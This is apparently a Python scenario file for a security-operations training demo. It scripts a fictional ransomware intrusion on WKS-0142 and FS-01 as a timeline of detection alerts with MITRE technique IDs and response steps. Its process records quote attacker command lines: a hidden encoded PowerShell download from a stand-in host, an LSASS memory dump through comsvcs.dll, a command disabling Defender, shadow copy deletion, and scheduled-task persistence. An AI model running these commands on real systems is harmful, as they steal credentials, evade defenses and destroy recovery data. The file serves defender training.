"""A mailed workbook, a loader, the domain's credentials, and encrypted shares."""

from __future__ import annotations

from tui.demo.story.alert import AV, MDE, MDI, MDO, XDR, Alert
from tui.demo.story.evidence import file, host, ip, process, registry_value, url, user
from tui.demo.story.evidence_mail import Mail, mail, mailbox
from tui.demo.story.stage import Stage
from tui.demo.story.world import device, person

NAME = "Human-operated ransomware on WKS-0142"
SUMMARY = (
    "k.larsen opened Invoice_8841.xlsm, then PowerShell fetched a loader, credentials were read "
    "from LSASS, and 1,912 files encrypted on WKS-0142 and FS-01."
)
DESCRIPTION = (
    "A macro in a mailed workbook started an encoded PowerShell command on WKS-0142. Within two "
    "hours the operator had a domain administrator's credentials, moved to FS-01 over SMB, "
    "removed the shadow copies and started the encryption."
)
ACTIONS = (
    "Isolate WKS-0142 and FS-01.\n"
    "Disable adm.keller and reset the passwords of k.larsen and adm.keller.\n"
    "Block 185.220.101.47 and the hashes of stage2.dll and locker.exe.\n"
    "Look for d.bin and the scheduled task OneDriveSync on other devices."
)
_C2 = "185.220.101.47"
_LOADER = "https://cdn-sync.example.net/a/stage2.dll"
_ENCODED = (
    "powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIA"
    "QwBsAGkAZQBuAHQAOwAkAHMALgBEAG8AdwBuAGwAbwBhAGQARgBpAGwAZQAoACcAaAB0AHQAcABzADoALwAvAGMAZABu"
)
_RUN_KEY = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"


def tell(stage: Stage) -> list[Alert]:
    """The alerts, in the order things happened."""
    wks, server, domain = device("WKS-0142"), device("FS-01"), device("DC-01")
    clerk, admin = person("k.larsen"), person("adm.keller")
    message = Mail(
        "Overdue invoice 8841",
        "billing@fabrikam-invoices.example",
        "Fabrikam Billing",
        clerk,
        stage.at(-9),
        "45.137.21.9",
        attachments=1,
        threats=("malware",),
    )
    desktop = stage.shell(wks, "k.larsen")
    excel = stage.run(
        "EXCEL.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" '
        '"C:\\Users\\k.larsen\\Downloads\\Invoice_8841.xlsm"',
        wks,
        "k.larsen",
        0,
        desktop,
    )
    powershell = stage.run("powershell.exe", _ENCODED, wks, "k.larsen", 0.4, excel)
    loader = stage.run(
        "rundll32.exe",
        "rundll32.exe C:\\ProgramData\\stage2.dll,Start",
        wks,
        "k.larsen",
        6,
        powershell,
    )
    task = stage.run(
        "schtasks.exe",
        "schtasks /create /tn OneDriveSync /sc onlogon /tr "
        '"rundll32.exe C:\\ProgramData\\stage2.dll,Start" /f',
        wks,
        "k.larsen",
        9,
        loader,
    )
    preference = stage.run(
        "powershell.exe",
        "powershell Set-MpPreference -DisableRealtimeMonitoring $true "
        "-ExclusionPath C:\\ProgramData",
        wks,
        "k.larsen",
        17,
        loader,
    )
    groups = stage.run("net.exe", 'net group "Domain Admins" /domain', wks, "k.larsen", 31, loader)
    trusts = stage.run(
        "nltest.exe", "nltest /domain_trusts /all_trusts", wks, "k.larsen", 34, loader
    )
    dump = stage.run(
        "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\d.bin full",
        wks,
        "system",
        58,
        loader,
    )
    wmi = stage.run(
        "WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        server,
        "network service",
        72,
    )
    beacon = stage.run(
        "rundll32.exe",
        "rundll32.exe C:\\Windows\\Temp\\stage2.dll,Start",
        server,
        "adm.keller",
        76,
        wmi,
    )
    shadows = stage.run(
        "vssadmin.exe", "vssadmin delete shadows /all /quiet", server, "adm.keller", 99, beacon
    )
    locker = stage.run(
        "locker.exe",
        "C:\\PerfLogs\\locker.exe --path D:\\Shares --ext .contoso_locked --threads 16",
        server,
        "adm.keller",
        101,
        beacon,
        folder="C:\\PerfLogs",
        content="locker",
    )
    stage2 = file(
        "stage2.dll",
        "C:\\ProgramData",
        wks,
        content="stage2",
        verdict="malicious",
        remediation="remediated",
        roles=("loaded",),
    )
    bad = {"verdict": "malicious", "remediation": "active"}
    return [
        Alert(
            "Malicious attachment was delivered",
            "low",
            "InitialAccess",
            MDO,
            -9,
            [
                mail(message, verdict="malicious", remediation="none"),
                mailbox(clerk, roles=("attacked",)),
                ip(message.sender_ip, "MD", verdict="suspicious", roles=("source",)),
            ],
            ("T1566.001",),
            "A message with an attachment that was found malicious after its delivery is in the "
            "recipient's inbox.",
            "Find other recipients of the attachment and remove the message from their mailboxes.",
            delay=26,
        ),
        Alert(
            "Office started a child process",
            "low",
            "InitialAccess",
            MDE,
            0,
            [
                host(wks, risk="high"),
                user(clerk),
                process(excel),
                process(powershell, verdict="malicious", roles=("attacker",)),
                file(
                    "Invoice_8841.xlsm",
                    "C:\\Users\\k.larsen\\Downloads",
                    wks,
                    content="Invoice_8841.xlsm",
                    verdict="malicious",
                    remediation="active",
                ),
            ],
            ("T1566.001", "T1204.002"),
            "An Office application started a command interpreter. Documents that carry macros do "
            "so to run what they could not run themselves.",
            "Ask the user where the document came from. Collect it and look at its macros.",
        ),
        Alert(
            "Encoded PowerShell command",
            "medium",
            "Execution",
            MDE,
            0.4,
            [host(wks, risk="high"), user(clerk), process(powershell, **bad)],
            ("T1059.001", "T1027.010"),
            "PowerShell ran a command that was encoded in Base64 and hid its window.",
            "Decode the command. Look for other devices that ran it.",
        ),
        Alert(
            "PowerShell ran a download",
            "medium",
            "CommandAndControl",
            MDE,
            5,
            [
                host(wks, risk="high"),
                process(powershell, **bad),
                url(_LOADER, verdict="malicious", remediation="active"),
                ip(_C2, "NL", roles=("commandAndControl",), **bad),
                stage2,
            ],
            ("T1105",),
            "PowerShell fetched a library from an address with a bad reputation and wrote it to "
            "C:\\ProgramData.",
            "Block the address. Collect the library.",
        ),
        Alert(
            "Suspicious library loaded by rundll32",
            "low",
            "Execution",
            MDE,
            6,
            [host(wks, risk="high"), process(loader, **bad), stage2],
            ("T1218.011",),
            "rundll32.exe loaded an unsigned library from a folder that every user can write to.",
            "Find out what the library does; see its prevalence in the organisation.",
        ),
        Alert(
            "Scheduled task starts an unsigned library",
            "low",
            "Persistence",
            MDE,
            9,
            [
                host(wks, risk="high"),
                process(task, verdict="suspicious"),
                registry_value(
                    "HKEY_LOCAL_MACHINE",
                    "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree"
                    "\\OneDriveSync",
                    "Id",
                    "{6F2C9B1E-5A0D-4E57-8C3A-1D94B7E0A2F6}",
                    wks,
                ),
                registry_value(
                    "HKEY_CURRENT_USER",
                    _RUN_KEY,
                    "OneDriveSync",
                    "rundll32.exe C:\\ProgramData\\stage2.dll,Start",
                    wks,
                    verdict="malicious",
                    remediation="active",
                ),
            ],
            ("T1053.005", "T1547.001"),
            "A task and a Run value that imitate OneDrive start an unsigned library at each logon.",
            "Remove the task and the value.",
        ),
        Alert(
            "Attempt to turn off Microsoft Defender Antivirus",
            "medium",
            "DefenseEvasion",
            AV,
            17,
            [
                host(wks, risk="high"),
                process(preference, verdict="malicious", remediation="prevented"),
            ],
            ("T1562.001",),
            "A process tried to turn off real-time protection and to exclude a folder. Tamper "
            "protection prevented it.",
            "Make sure that tamper protection is on everywhere.",
            investigation="partiallyRemediated",
        ),
        Alert(
            "Domain groups and trusts were listed",
            "low",
            "Discovery",
            MDE,
            31,
            [host(wks, risk="high"), user(clerk), process(groups), process(trusts)],
            ("T1069.002", "T1482"),
            "Commands that list privileged groups and trusts ran in short succession.",
            "Find out whether the user had a reason to run them.",
            lasts=4,
        ),
        Alert(
            "Security principal reconnaissance (LDAP)",
            "low",
            "Discovery",
            MDI,
            36,
            [host(wks, risk="high"), user(clerk), host(domain, risk="low", roles=("destination",))],
            ("T1087.002",),
            "k.larsen sent LDAP queries that list service accounts and delegation to DC-01.",
            "Look for tools that collect the directory, such as BloodHound.",
            lasts=2,
        ),
        Alert(
            "LSASS memory read by rundll32.exe",
            "high",
            "CredentialAccess",
            MDE,
            58,
            [
                host(wks, risk="high"),
                process(excel, verdict="suspicious"),
                process(powershell, **bad),
                process(dump, roles=("attacker",), **bad),
                file(
                    "d.bin",
                    "C:\\ProgramData",
                    wks,
                    content="d.bin",
                    size=61_873_152,
                    verdict="malicious",
                    roles=("created",),
                ),
                user(admin, roles=("compromised",)),
            ],
            ("T1003.001",),
            "rundll32.exe wrote the memory of the Local Security Authority to a file. Whoever has "
            "the file has the credentials of everybody who had signed in.",
            "Isolate the device, reset k.larsen's password, look for d.bin elsewhere.",
        ),
        Alert(
            "Lateral movement by SMB to FS-01",
            "medium",
            "LateralMovement",
            MDE,
            70,
            [
                host(wks, risk="high", roles=("source",)),
                host(server, risk="high", roles=("destination", "compromised")),
                user(admin),
                ip(wks.ip, roles=("source",)),
                file(
                    "stage2.dll",
                    "C:\\Windows\\Temp",
                    server,
                    content="stage2",
                    verdict="malicious",
                    remediation="active",
                ),
            ],
            ("T1021.002",),
            "A library was copied to the ADMIN$ share of FS-01 with adm.keller's credentials, "
            "which had not been used from WKS-0142 before.",
            "Isolate both devices. Disable the account.",
            lasts=3,
        ),
        Alert(
            "Remote process started through WMI",
            "medium",
            "LateralMovement",
            MDE,
            76,
            [
                host(server, risk="high"),
                user(admin),
                process(wmi),
                process(beacon, **bad),
                ip(_C2, "NL", roles=("commandAndControl",), **bad),
            ],
            ("T1047", "T1071.001"),
            "WMI started rundll32.exe with a library from a temporary folder on FS-01; it then "
            "connected to an address that belongs to an anonymising network.",
            "Isolate FS-01. Look for the address in the traffic of other servers.",
        ),
        Alert(
            "Shadow copies deleted",
            "high",
            "Impact",
            MDE,
            99,
            [host(server, risk="high"), user(admin), process(shadows, **bad)],
            ("T1490",),
            "All shadow copies of FS-01 were deleted, which takes away the quickest way back.",
            "Isolate the device and check the backups before anything else.",
        ),
        Alert(
            "Files encrypted at high rate",
            "high",
            "Impact",
            XDR,
            101,
            [
                host(server, risk="high"),
                host(wks, risk="high", roles=("attacked",)),
                user(admin),
                process(locker, **bad),
                file(
                    "locker.exe",
                    "C:\\PerfLogs",
                    server,
                    content="locker",
                    verdict="malicious",
                    remediation="active",
                ),
                file(
                    "README_\u202egnp.txt",
                    "D:\\Shares\\Finance",
                    server,
                    content="ransom note",
                    size=1874,
                    verdict="malicious",
                    roles=("created",),
                ),
                ip(_C2, "NL", roles=("commandAndControl",), **bad),
            ],
            ("T1486",),
            "locker.exe renamed and overwrote 1,912 files on D:\\Shares and on C:\\Users within "
            "nine minutes.",
            "Isolate the devices, stop the process, keep the note and a sample for the "
            "investigation.",
            lasts=9,
            delay=1,
            threat="Ransom:Win64/Locker.KV!MTB",
            family="Locker",
            actor="Storm-0844",
        ),
    ]
